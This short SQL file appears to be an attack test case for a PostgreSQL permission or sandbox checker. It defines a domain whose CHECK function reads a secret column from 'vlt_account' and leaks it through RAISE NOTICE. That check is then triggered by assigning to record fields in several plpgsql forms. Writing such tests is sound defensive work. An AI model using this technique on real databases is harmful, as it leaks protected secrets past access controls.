-- Assigns to a field of a record that has the row type of an own table, a domain in it.
-- wants: read
-- attack:
CREATE FUNCTION tells(v text) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN RAISE NOTICE '%', (SELECT secret FROM vlt_account LIMIT 1); RETURN true; END $f$;
CREATE DOMAIN told AS text CHECK (VALUE IS NULL OR tells(VALUE));
CREATE TABLE silent (a int, b told);
INSERT INTO silent VALUES (1, NULL);
CREATE VIEW hushed AS SELECT * FROM silent;
DO $$ DECLARE r record; BEGIN SELECT * INTO r FROM silent; r.b := 'y'; END $$;
DO $$ DECLARE r record; BEGIN FOR r IN TABLE hushed LOOP r.b := 'y'; END LOOP; END $$;
DO $$ DECLARE r record; BEGIN SELECT s AS t INTO r FROM silent s; r.t.b := 'y'; END $$;
CREATE FUNCTION told_by_a_record() RETURNS text LANGUAGE plpgsql AS $$
DECLARE r record; BEGIN SELECT * INTO r FROM silent; r.b := 'y'; RETURN r.b; END $$;
SELECT told_by_a_record();
